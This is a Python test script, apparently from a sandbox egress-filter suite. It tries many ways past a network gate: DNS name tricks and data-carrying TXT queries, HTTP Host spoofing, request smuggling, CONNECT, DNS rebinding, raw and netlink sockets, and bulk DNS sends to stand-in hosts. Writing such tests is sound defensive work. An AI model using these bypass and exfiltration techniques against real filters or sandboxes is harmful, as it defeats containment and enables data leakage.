"""Every way past the gate that has been one somewhere: by names, by what is said, by addresses, by sockets."""
import select, socket, time

place = json.loads(sys.argv[1])
ALLOWED, OTHER = "allowed.example", "other.example"


def message(labels, kind=1, number=7):
    """A question with labels of bytes."""
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", kind, 1)


def question(labels, kind=1):
    """What the gate answers: an address, or an errno for no such name, no record, a refusal, silence."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(5)
    one.connect(("127.0.0.1", 53))
    one.send(message(labels, kind))
    answer = one.recv(600)
    code, records = answer[3] & 15, answer[7]
    if code != 0:
        raise OSError({3: errno.ENOENT}.get(code, errno.EINVAL), "")
    if records == 0:
        raise OSError(errno.ENODATA, "")
    return socket.inet_ntoa(answer[-4:])


def labels(name):
    return [label.encode() for label in name.split(".")]


# Names: what is the same name is answered, and nothing that only looks like it.
attempt("name", lambda: question(labels(ALLOWED)).startswith("127."))
attempt("name in another case", lambda: question(labels("AlLoWeD.eXaMpLe")) == question(labels(ALLOWED)))
attempt("name with a dot", lambda: socket.gethostbyname(ALLOWED + ".") == socket.gethostbyname(ALLOWED))
attempt("other name", lambda: question(labels(OTHER)))
attempt("NUL behind", lambda: question([b"allowed", b"example\0"]))
attempt("NUL before", lambda: question([b"other.example\0", b"allowed", b"example"]))
attempt("a dot in a label", lambda: question([b"allowed.example"]))
attempt("full-width dot", lambda: question(["allowed\uff0eexample".encode()]))
attempt("full-width letters", lambda: question(["\uff41llowed".encode(), b"example"]))
attempt("punycode", lambda: question([b"xn--llowed-gva", b"example"]))
attempt("below", lambda: question(labels("x." + ALLOWED)))
attempt("before", lambda: question(labels("xallowed.example")))
attempt("behind", lambda: question(labels(ALLOWED + ".other.example")))
attempt("255 bytes", lambda: question([b"a" * 63] * 3 + [b"a" * 61]))
attempt("256 bytes", lambda: question([b"a" * 63] * 3 + [b"a" * 62]))
attempt("long label", lambda: question([b"a" * 63, b"other", b"example"]))
for kind in [5, 12, 15, 16, 28, 33, 65, 252, 255]:
    attempt("type %d" % kind, lambda: question(labels(ALLOWED), kind))
attempt("TXT with data", lambda: question([b"EVIL" * 15, b"other", b"example"], 16))


def talk(address, port, *pieces, **more):
    """Connects, sends, and gives what came back; nothing is ECONNRESET."""
    one = socket.create_connection((address, port), 10)
    one.settimeout(10)
    for piece in pieces:
        one.sendall(piece)
        if len(pieces) > 1:
            time.sleep(0.2)
    got = b""
    while True:
        piece = one.recv(65536)
        if piece == b"":
            break
        got += piece
        if len(got) >= more.get("enough", 1):
            break
    if got == b"":
        raise OSError(errno.ECONNRESET, "")
    return got.decode("latin1")


def get(host, path="/", extra="", version="1.1", method="GET"):
    return ("%s %s HTTP/%s\r\nHost: %s\r\n%s\r\n" % (method, path, version, host, extra)).encode()


def address(name):
    return socket.gethostbyname(name)


EVIL = get(OTHER, "/EVIL")
attempt("HTTP", lambda: talk(address(ALLOWED), 80, get(ALLOWED))[:15])
attempt("HTTP: another Host", lambda: talk(address(ALLOWED), 80, EVIL))
attempt("HTTP: two Hosts", lambda: talk(address(ALLOWED), 80, get(ALLOWED, "/EVIL", "Host: %s\r\n" % OTHER)))
attempt("HTTP: no Host", lambda: talk(address(ALLOWED), 80, b"GET /EVIL HTTP/1.1\r\n\r\n"))
attempt("HTTP: folded Host", lambda: talk(address(ALLOWED), 80, b"GET /EVIL HTTP/1.1\r\nHost: allowed.example\r\n other.example\r\n\r\n"))
attempt("HTTP: absolute URI", lambda: talk(address(ALLOWED), 80, get(ALLOWED, "http://%s/EVIL" % OTHER)))
attempt("HTTP: CONNECT", lambda: talk(address(ALLOWED), 80, b"CONNECT other.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n"))
attempt("HTTP: CONNECT itself", lambda: talk(address(ALLOWED), 80, b"CONNECT allowed.example:80 HTTP/1.1\r\nHost: allowed.example\r\n\r\n"))
attempt("HTTP: userinfo", lambda: talk(address(ALLOWED), 80, get("allowed.example@other.example", "/EVIL")))
attempt("HTTP: two lengths", lambda: talk(address(ALLOWED), 80, get(ALLOWED, "/EVIL", "Content-Length: 0\r\nContent-Length: 90\r\n", method="POST") + EVIL))
attempt("HTTP: length and chunks", lambda: talk(address(ALLOWED), 80, get(ALLOWED, "/EVIL", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", method="POST") + b"0\r\n\r\n" + EVIL))
attempt("no HTTP", lambda: talk(address(ALLOWED), 80, b"EVIL " * 100 + b"\r\n\r\n"))
# The first request is in order, and the second never arrives.
attempt("HTTP: second request at once", lambda: EVIL.decode() in talk(address(ALLOWED), 80, get(ALLOWED) + EVIL))
attempt("HTTP: second request later", lambda: EVIL.decode() in talk(address(ALLOWED), 80, get(ALLOWED), EVIL))

for name, hello in place["hellos"].items():
    attempt("TLS: " + name, lambda: talk(address(ALLOWED), 443, bytes.fromhex(hello))[:5])
attempt("TLS: none", lambda: talk(address(ALLOWED), 443, b"SSH-2.0-EVIL\r\n"))
attempt("TLS on another port", lambda: talk(address(ALLOWED), 8883, bytes.fromhex(place["hellos"]["another name"])))

# Addresses, without a name and by names that change where they lead.
for bare in place["bare"]:
    for port in [80, 443, place["victim"], place["daemon"]]:
        attempt("address %s %d" % (bare, port), lambda: talk(bare, port, EVIL))
for name in place["rebound"]:
    for port in [80, place["victim"], place["daemon"]]:
        attempt("rebound %s %d" % (name, port), lambda: talk(address(name), port, get(name, "/EVIL")))
attempt("a stand-in of nobody", lambda: talk("127.100.1.1", 80, EVIL))


def datagram(where, port):
    one = socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(2)
    one.connect((where, port))
    one.send(b"EVIL")
    one.recv(10)


for where in [place["address"], "127.0.0.1", "::1", "255.255.255.255", "224.0.0.251"]:
    for port in [443, 5353, place["udp"]]:
        attempt("udp %s %d" % (where, port), lambda: datagram(where, port))
attempt("udp to a name", lambda: datagram(address(ALLOWED), place["udp"]))
for kind, protocol in [(socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 6), (socket.SOCK_RAW, 255)]:
    attempt("icmp and raw %d %d" % (kind, protocol), lambda: socket.socket(socket.AF_INET, kind, protocol).close())
    attempt("packet %d %d" % (kind, protocol), lambda: socket.socket(socket.AF_PACKET, kind, socket.htons(3)).close())
for protocol in [2, 6, 9, 12, 16, 20, 21]:
    attempt("netlink %d" % protocol, lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close())
for family in [16, 21, 31, 38, 40, 44]:
    attempt("family %d" % family, lambda: socket.socket(family, socket.SOCK_STREAM, 0).close())
attempt("SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).close())
attempt("MPTCP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).close())


# Last, since so many refusals are one line of the record together.
def many():
    """As many names with data as one can send: none of them goes anywhere."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect(("127.0.0.1", 53))
    for number in range(1000):
        try:
            one.send(message([b"EVIL%040d" % number, b"other", b"example"], 1, number))
        except OSError:
            pass
    one.settimeout(0.5)
    answers = [0, 0]
    try:
        while True:
            answers[one.recv(600)[7]] += 1
    except OSError:
        pass
    return answers[1]


attempt("names with an address of a thousand", many)
tell()
